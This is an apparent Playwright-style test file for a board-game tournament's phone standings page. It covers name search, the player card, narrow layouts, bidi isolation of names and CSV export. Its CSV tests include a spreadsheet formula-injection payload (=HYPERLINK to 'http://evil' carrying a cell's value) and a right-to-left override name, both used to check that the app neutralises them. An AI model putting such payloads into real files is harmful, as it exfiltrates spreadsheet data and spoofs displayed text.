// The players' phone page (/t/{t}, client/web/standings.html) in Debian's headless Chromium
// against the real tallyd (its test build), at 390×844 and 360 px with fields of 24 and 120
// players: "Find me" ("novakova" finds "Nováková"; the choice remembered after a reload) and the
// player's table, seat, opponents and results round by round (the whole table's result, a claimed
// win, a correction with its reason); the pairings first while the round runs; the standings
// compact with the rest of a row behind a tap; no sideways scrolling; every name isolated (a
// right-to-left override in one name does not reverse the next) and wrapping (a 200-character
// unbroken one); a claimed win marked on the judge page too; the page's CSV neutralising
// formulas in names, not numbers. Screenshots are kept in $TALLY_ARTIFACTS as 21-phone-*.png.
//
// Environment (set by CMake): TALLYD_TEST, TALLY_BROWSER_DEPS, TALLY_ARTIFACTS, CHROMIUM.

import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import path from "node:path";
import { after, before, test } from "node:test";

import { fold, findPlayers } from "../../client/web/static/find-me.js";
import { csvField, neutralised } from "../../client/web/static/standings-columns.js";
import { catanField } from "./support/field.mjs";
import { artifacts, startStack, stopStack } from "./support/stack.mjs";
import { lowContrastTexts } from "./support/a11y.mjs";
import { closeContext, openContext } from "./support/contexts.mjs";

const PHONE = { width: 390, height: 844 };
const TIMEZONE = "Europe/Prague";
// The contexts' visitor chose English, unless a page was switched since (keepLang); downloads
// are accepted.
const PHONE_BROWSER = { keepLang: true, downloads: true };

let stack;
let tallyd;
let browser;
let judge;
const fields = {}; // players → the field (support/field.mjs)

before(async () => {
  stack = await startStack("tally-phone-");
  ({ tallyd, browser } = stack);
  judge = await tallyd.must(201, "POST", "/v1/judges", { name: "Eva" });
  for (const count of [24, 120]) fields[count] = await catanField(tallyd, judge, `phone${count}`, count);
});

after(() => stopStack(stack));

// ---- helpers ----------------------------------------------------------------------------------

async function openPhone(context, id) {
  const page = await context.newPage();
  await page.goto(`${tallyd.base}/t/${id}`);
  await page.locator("#standings tbody tr").first().waitFor();
  await page.locator("#pairings-by-table tbody tr").first().waitFor();
  return page;
}

// Nothing wider than the screen: the page never scrolls sideways.
const fitsWidth = (page) => page.evaluate(() => document.documentElement.scrollWidth <= document.documentElement.clientWidth);

// HH:MM of an ISO time on the venue's clock.
const venueTime = (iso) =>
  new Intl.DateTimeFormat("en-GB", { timeZone: TIMEZONE, hour: "2-digit", minute: "2-digit", hourCycle: "h23" }).format(new Date(iso));


const rankTexts = (rows) => {
  const counts = new Map();
  for (const r of rows) counts.set(r.rank, (counts.get(r.rank) || 0) + 1);
  return new Map(rows.map((r) => [r.player, counts.get(r.rank) > 1 ? `${r.rank}=` : String(r.rank)]));
};

// ---- the pure part ----------------------------------------------------------------------------

test("find-me.js: names compared without accents and case, every word, in the order given", () => {
  assert.equal(fold("Nováková"), "novakova");
  assert.equal(fold("ČENĚK Šťastný"), "cenek stastny");
  assert.equal(fold("Ørsted"), "ørsted", "a letter of its own is not an accent");
  const players = [
    { id: "a", name: "Petra Nováková" },
    { id: "b", name: "Jana Novák" },
    { id: "c", name: "Jana Nováková" },
  ];
  assert.deepEqual(findPlayers(players, "novakova").map((p) => p.id), ["a", "c"], "the order given, not sorted");
  assert.deepEqual(findPlayers(players, "nov jana").map((p) => p.id), ["b", "c"]);
  assert.deepEqual(findPlayers(players, "  "), []);
});

test("standings-columns.js: a cell people typed that a spreadsheet would run is neutralised, then quoted as RFC 4180 says", () => {
  for (const start of ["=", "+", "-", "@", "\t", "\r"]) assert.equal(neutralised(`${start}1+1`), `'${start}1+1`, JSON.stringify(start));
  assert.equal(neutralised("Jana"), "Jana");
  assert.equal(neutralised(" =1"), " =1", "only the first character counts");
  assert.equal(csvField(neutralised('=HYPERLINK("http://evil/?x="&A1,"click")')), `"'=HYPERLINK(""http://evil/?x=""&A1,""click"")"`);
  assert.equal(csvField(neutralised("\rx")), `"'\rx"`, "a carriage return is quoted too");
  assert.equal(csvField("-3"), "-3", "a number the page writes is not touched");
});

// ---- find me ----------------------------------------------------------------------------------

for (const count of [24, 120]) {
  test(`${count} players, 390×844: "novakova" finds Nováková; her table, seat, opponents and results; remembered after a reload`, async () => {
    const field = fields[count];
    const standings = await tallyd.must(200, "GET", `/v1/tournaments/${field.id}/standings`);
    const context = await openContext(browser, { viewport: PHONE, ...PHONE_BROWSER });
    const page = await openPhone(context, field.id);

    // The matches in the server's order (the standings' rows), eight at most.
    await page.getByLabel("Your name").fill("novakova");
    const matching = standings.rows.filter((r) => r.name.normalize("NFD").replace(/\p{M}/gu, "").toLowerCase().includes("novakova"));
    assert.ok(matching.length > 8, `${matching.length} names with Nováková`);
    await page.locator(".find-match").nth(7).waitFor();
    assert.deepEqual(await page.locator(".find-match").allInnerTexts(), matching.slice(0, 8).map((r) => r.name));
    assert.equal(await page.locator("#find-status").innerText(), `and ${matching.length - 8} more: type more of your name`);
    assert.equal(await fitsWidth(page), true, "the matches fit");

    // More of the name, and Enter: the only match is chosen.
    await page.getByLabel("Your name").fill("jana NOVAKOVA");
    await page.locator(".find-match").filter({ hasText: "Jana Nováková" }).waitFor();
    assert.equal(await page.locator(".find-match").count(), 1);
    await page.getByLabel("Your name").press("Enter");
    await page.locator("#me-card .my-round").first().waitFor();
    assert.equal(await page.locator("#find-me-heading").innerText(), "Jana Nováková");
    assert.equal(await page.evaluate((id) => localStorage.getItem(`tallyd.me.${id}`), field.id), "p1");

    const checkCard = async () => {
      const table = field.round2.tables.find((t) => t.table === field.janaTable2);
      const seat = table.players.indexOf("p1") + 1;
      assert.equal(await page.locator("#me-now .me-seat").innerText(), `Round 2: table ${field.janaTable2}, seat ${seat}`);
      const opponents = table.players.filter((p) => p !== "p1").map((p) => field.nameOf[p]);
      assert.equal(await page.locator("#me-now .me-opponents").innerText(), `Opponents: ${opponents.join(", ")}`);
      assert.equal(await page.locator("#me-now .me-opponents bdi").count(), 3, "each opponent's name isolated");
      const now = await tallyd.must(200, "GET", `/v1/tournaments/${field.id}/standings`);
      const row = now.rows.find((r) => r.player === "p1");
      assert.equal(
        await page.locator("#me-standing").innerText(),
        `Place ${rankTexts(now.rows).get("p1")} of ${count} · Round points: ${row.round_points.value.toFixed(2)}`,
      );

      // Her results, newest first: each table's whole result as tallyd computed it.
      assert.deepEqual(await page.locator("#me-card .my-round").evaluateAll((a) => a.map((x) => x.dataset.round)), ["2", "1"]);
      const round2 = page.locator('#me-card .my-round[data-round="2"]');
      assert.equal(await round2.locator("h4").innerText(), `Round 2 · table ${field.janaTable2}`);
      const resultRows = await round2.locator("tbody tr").evaluateAll((trs) =>
        trs.map((tr) => [tr.cells[0].textContent, tr.cells[1].querySelector("bdi").textContent, tr.cells[2].textContent, tr.cells[3].textContent]),
      );
      assert.deepEqual(resultRows, table.result.players.map((p) => [p.place, field.nameOf[p.player], String(p.score), String(p.points.value)]));
      assert.equal(await round2.locator("tr.me").getAttribute("data-player"), "p1", "her row marked");
      // The claim is marked at the claimant's row, and only there.
      const claimant = table.result.players.find((p) => p.claimed_win).player;
      assert.deepEqual(await round2.locator("tr:has(.claimed-win)").evaluateAll((trs) => trs.map((tr) => tr.dataset.player)), [claimant]);
      assert.equal(await round2.locator(".claimed-win").innerText(), "claimed the win");
      // The VP's breakdown in the game's own words.
      assert.match(await round2.locator(`tr[data-player="${claimant}"] .score-lines`).innerText(), /^Settlements 2 · Cities 3 · Longest Road$/);
      // Who entered it and when is for tokens only (docs/api.md "What the public may read").
      assert.equal(await round2.locator(".entered").count(), 0);

      // Round 1: her table's result was corrected; a player's phone says so, not who or why.
      const table1 = field.round1.tables.find((t) => t.table === field.janaTable1);
      const round1 = page.locator('#me-card .my-round[data-round="1"]');
      assert.equal(await round1.locator("h4").innerText(), `Round 1 · table ${field.janaTable1}`);
      assert.equal(table1.corrected, true);
      assert.equal(
        await round1.locator(".correction").innerText(),
        "Corrected after it was first entered (a judge can show who corrected it and why).",
      );
      assert.equal(await round1.locator(".correction q").count(), 0, "no reason on a public page");
      // Her rows are marked in the pairings and the standings too.
      assert.equal(await page.locator("#standings tr.me").getAttribute("data-player"), "p1");
      assert.equal(await page.locator("#pairings-by-table tr.me th").innerText(), String(field.janaTable2));
    };
    await checkCard();
    assert.equal(await fitsWidth(page), true, "the card fits");
    await page.screenshot({ path: path.join(artifacts, `21-phone-${count}-en.png`), fullPage: true });

    // Remembered: a reload opens on her card, no name typed.
    await page.reload();
    await page.locator("#me-card .my-round").first().waitFor();
    assert.equal(await page.locator("#find-form").isHidden(), true);
    await checkCard();

    // "Not me" forgets her.
    await page.getByRole("button", { name: "Not me" }).click();
    await page.getByLabel("Your name").waitFor();
    assert.equal(await page.locator("#me-card").isHidden(), true);
    assert.equal(await page.evaluate((id) => localStorage.getItem(`tallyd.me.${id}`), field.id), null);
    await closeContext(context);
  });

  test(`${count} players: the pairings first while the round runs, compact standings with the rest on a tap, no sideways scrolling at 390 and 360 px`, async () => {
    const field = fields[count];
    const standings = await tallyd.must(200, "GET", `/v1/tournaments/${field.id}/standings`);
    const context = await openContext(browser, { viewport: PHONE, ...PHONE_BROWSER });
    const page = await openPhone(context, field.id);

    // Round 2 runs: its pairings come right after "Find me", by name before by table.
    const order = await page.evaluate(() => [...document.querySelectorAll("main > section, #round-section > section")].map((s) => s.id));
    assert.deepEqual(order, ["find-me", "round-section", "pairings-by-name", "pairings-by-table", "slips", "standings-section"]);
    const findMe = await page.locator("#find-me").boundingBox();
    assert.ok(findMe.y < 400, `"Find me" starts ${findMe.y} px down`);
    const pairings = await page.locator("#pairings-by-name").boundingBox();
    const standingsTop = await page.locator("#standings-section").boundingBox();
    assert.ok(pairings.y < standingsTop.y);
    assert.equal(await page.locator("#pairings-by-name tbody tr").count(), count);

    // Compact: rank, name, the points; the rest of the row behind its name.
    assert.deepEqual(await page.locator("#standings thead th").allInnerTexts(), ["#", "Name", "Round points"]);
    const ranks = rankTexts(standings.rows);
    const first = standings.rows[0];
    const row = page.locator(`#standings tr[data-player="${first.player}"]`);
    assert.deepEqual(await row.locator("th, td").allInnerTexts(), [ranks.get(first.player), first.name, first.round_points.value.toFixed(2)]);
    assert.equal(await row.locator(".row-more").isVisible(), false);
    await row.locator("summary").click();
    await row.locator(".row-more").waitFor();
    const more = await row.locator(".row-more > div").evaluateAll((ds) => ds.map((d) => [d.querySelector("dt").textContent, d.querySelector("dd").textContent]));
    assert.deepEqual(more, [
      ["Games", String(first.games)],
      ["VP", String(first.vp)],
      ["VP share", `${(first.vp_share.value * 100).toFixed(2)}%`],
    ]);

    assert.equal(await fitsWidth(page), true, "390 px");
    await page.setViewportSize({ width: 360, height: 740 });
    assert.equal(await fitsWidth(page), true, "360 px");
    await page.getByLabel("Your name").fill("nov");
    await page.locator(".find-match").first().waitFor();
    await page.locator(".find-match").first().click();
    await page.locator("#me-card .my-round").first().waitFor();
    assert.equal(await fitsWidth(page), true, "360 px with a player's card");

    // On a wide screen every column is there.
    await page.setViewportSize({ width: 1920, height: 1080 });
    await page.locator("#standings thead th").nth(5).waitFor();
    assert.deepEqual(await page.locator("#standings thead th").allInnerTexts(), ["#", "Name", "Games", "Round points", "VP", "VP share"]);
    assert.equal(await fitsWidth(page), true, "1920 px");
    await closeContext(context);
  });
}

// ---- names: isolated, wrapping --------------------------------------------------------------------

test("a right-to-left override in one name does not reverse the next; a 200-character unbroken name wraps", async () => {
  const field = fields[24];
  const table = field.round2.tables.find((t) => t.table === field.janaTable2);
  const [hostile, next] = table.players.filter((p) => p !== "p1");
  const rlo = "\u202Eevil\u202E";
  const long = "W".repeat(200);
  // The names as a server that took them would give them (tallyd refuses them now).
  const context = await openContext(browser, { viewport: PHONE, ...PHONE_BROWSER });
  const page = await context.newPage();
  await page.route(new RegExp(`/v1/tournaments/${field.id}$`), async (route) => {
    const response = await route.fetch();
    const body = await response.json();
    for (const p of body.players) {
      if (p.id === hostile) p.name = rlo;
      if (p.id === "p1") p.name = long;
    }
    await route.fulfill({ response, json: body });
  });
  await page.goto(`${tallyd.base}/t/${field.id}`);
  const cell = page.locator(`#pairings-by-table tr[data-table="${field.janaTable2}"] td`).last();
  await cell.locator("bdi").first().waitFor();

  // Each name its own isolate; the override stays inside its own.
  const isolates = await cell.locator("bdi").evaluateAll((bs) =>
    // A name wrapped over two lines has two boxes: where it starts is its first one's.
    bs.map((b) => ({ text: b.textContent, bidi: getComputedStyle(b).unicodeBidi, box: b.getBoundingClientRect().toJSON(), first: b.getClientRects()[0].toJSON() })),
  );
  assert.deepEqual(isolates.map((b) => b.text), table.players.map((p) => (p === hostile ? rlo : p === "p1" ? long : field.nameOf[p])));
  assert.ok(isolates.every((b) => b.bidi === "isolate"), JSON.stringify(isolates.map((b) => b.bidi)));
  // Drawn in order: the name after the hostile one starts after it (to its right on the same
  // line, or on a later line), its letters not reversed into it.
  const at = table.players.indexOf(hostile);
  const [a, b] = [isolates[at].box, isolates[at + 1].first];
  assert.ok(b.top >= a.bottom - 1 || b.left >= a.right - 1, `${field.nameOf[next]} is drawn after the hostile name: ${JSON.stringify({ a, b })}`);
  const text = await cell.innerText();
  assert.ok(text.includes(`, ${field.nameOf[next]}`), `the next name reads as it is: ${JSON.stringify(text)}`);

  // The long name wraps: nothing is wider than a 360-pixel phone.
  await page.setViewportSize({ width: 360, height: 740 });
  assert.equal(await fitsWidth(page), true);
  await closeContext(context);
});

// ---- a claimed win on the judge page ------------------------------------------------------------

test("a claimed win is marked in the judge page's table list and in the result shown", async () => {
  const field = fields[24];
  const table = field.round2.tables.find((t) => t.table === field.janaTable2);
  const claimant = table.result.players.find((p) => p.claimed_win).player;
  const context = await openContext(browser, { viewport: PHONE, ...PHONE_BROWSER });
  const page = await context.newPage();
  await page.goto(`${tallyd.base}/t/${field.id}/judge#token=${encodeURIComponent(judge.token)}&round=2&table=${field.janaTable2}`);
  const button = page.locator(`#tables button[data-table="${field.janaTable2}"]`);
  await button.waitFor();
  assert.equal(await button.locator(".claim").innerText(), `${field.nameOf[claimant]} claimed the win`);
  assert.equal(await button.locator(".players bdi").count(), 4, "each name isolated");
  await page.locator("#current-result table").waitFor();
  assert.equal(await page.locator(`#current-result tr[data-player="${claimant}"] .claimed-win`).innerText(), "claimed the win");
  assert.equal(await page.locator("#current-result .claimed-win").count(), 1);
  assert.equal(await fitsWidth(page), true);
  await page.screenshot({ path: path.join(artifacts, "21-judge-claimed-win.png"), fullPage: true });
  await closeContext(context);
});

// ---- the CSV ------------------------------------------------------------------------------------

test("the page's CSV neutralises a name that a spreadsheet would read as a formula, not the numbers", async () => {
  const hostile = ['=HYPERLINK("http://evil/?x="&A1,"click")', "+1 Ann", "-Ben", "@SUM(A1)", "Ola, Kari", "Eli"];
  await tallyd.must(201, "POST", "/v1/tournaments", { id: "csv", name: "csv open", game: "carcassonne", locale: "en" });
  for (const [i, name] of hostile.entries()) await tallyd.must(201, "POST", "/v1/tournaments/csv/players", { id: `p${i + 1}`, name });
  const sheet = await tallyd.must(201, "POST", "/v1/tournaments/csv/rounds", { method: "random", seed: 3 });
  for (const table of sheet.tables.filter((t) => t.players.length === 2)) {
    await tallyd.must(201, "PUT", `/v1/tournaments/csv/rounds/1/tables/${table.table}/result`, {
      players: [
        { player: table.players[0], score: 80 },
        { player: table.players[1], score: 83 },
      ],
    }, { token: judge.token, headers: { "If-None-Match": "*" } });
  }
  const standings = await tallyd.must(200, "GET", "/v1/tournaments/csv/standings");
  const context = await openContext(browser, { viewport: { width: 1280, height: 900 }, ...PHONE_BROWSER });
  const page = await context.newPage();
  await page.goto(`${tallyd.base}/t/csv`);
  await page.locator("#standings tbody tr").nth(hostile.length - 1).waitFor();
  const [download] = await Promise.all([page.waitForEvent("download"), page.getByRole("button", { name: "Download CSV" }).click()]);
  const lines = readFileSync(await download.path(), "utf8").replace(/^\ufeff/, "").split("\r\n");
  const header = lines[0].split(",");
  assert.deepEqual(header.slice(0, 2), ["#", "Name"]);
  const nameCell = new Map([
    ['=HYPERLINK("http://evil/?x="&A1,"click")', `"'=HYPERLINK(""http://evil/?x=""&A1,""click"")"`],
    ["+1 Ann", "'+1 Ann"],
    ["-Ben", "'-Ben"],
    ["@SUM(A1)", "'@SUM(A1)"],
    ["Ola, Kari", '"Ola, Kari"'],
    ["Eli", "Eli"],
  ]);
  const diff = header.indexOf("Score diff.");
  assert.ok(diff > 0, header.join(","));
  for (const [i, row] of standings.rows.entries()) {
    const line = lines[i + 1];
    assert.ok(line.startsWith(`${row.rank},${nameCell.get(row.name)},`), `${JSON.stringify(row.name)} → ${JSON.stringify(line)}`);
  }
  // A negative score difference is a number, written as one.
  const losers = standings.rows.filter((r) => r.score_diff < 0);
  assert.ok(losers.length > 0);
  for (const row of losers) {
    const line = lines[standings.rows.indexOf(row) + 1];
    assert.ok(line.endsWith(`,${row.score_diff},${row.score}`), `${JSON.stringify(line)} ends with the numbers`);
  }
  await closeContext(context);
});

// ---- screenshots in the tournament's language and in English ------------------------------------

test("screenshots of the phone page (390×844) in Czech and in English; its text contrast", async () => {
  for (const lang of ["cs", "en"]) {
    const context = await openContext(browser, { viewport: PHONE, ...PHONE_BROWSER, lang: lang === "cs" ? null : "en" });
    const page = await openPhone(context, fields[24].id);
    await page.getByLabel(lang === "cs" ? "Vaše jméno" : "Your name").fill("jana novakova");
    await page.getByLabel(lang === "cs" ? "Vaše jméno" : "Your name").press("Enter");
    await page.locator("#me-card .my-round").first().waitFor();
    await page.waitForLoadState("networkidle");
    assert.equal(await fitsWidth(page), true);
    await page.screenshot({ path: path.join(artifacts, `21-phone-${lang}.png`) });
    await page.locator("#standings summary").first().click(); // a row's disclosure open too
    assert.deepEqual(await lowContrastTexts(page), [], `the phone page in ${lang}`);
    await page.screenshot({ path: path.join(artifacts, `21-phone-${lang}-full.png`), fullPage: true });
    await closeContext(context);
  }
});
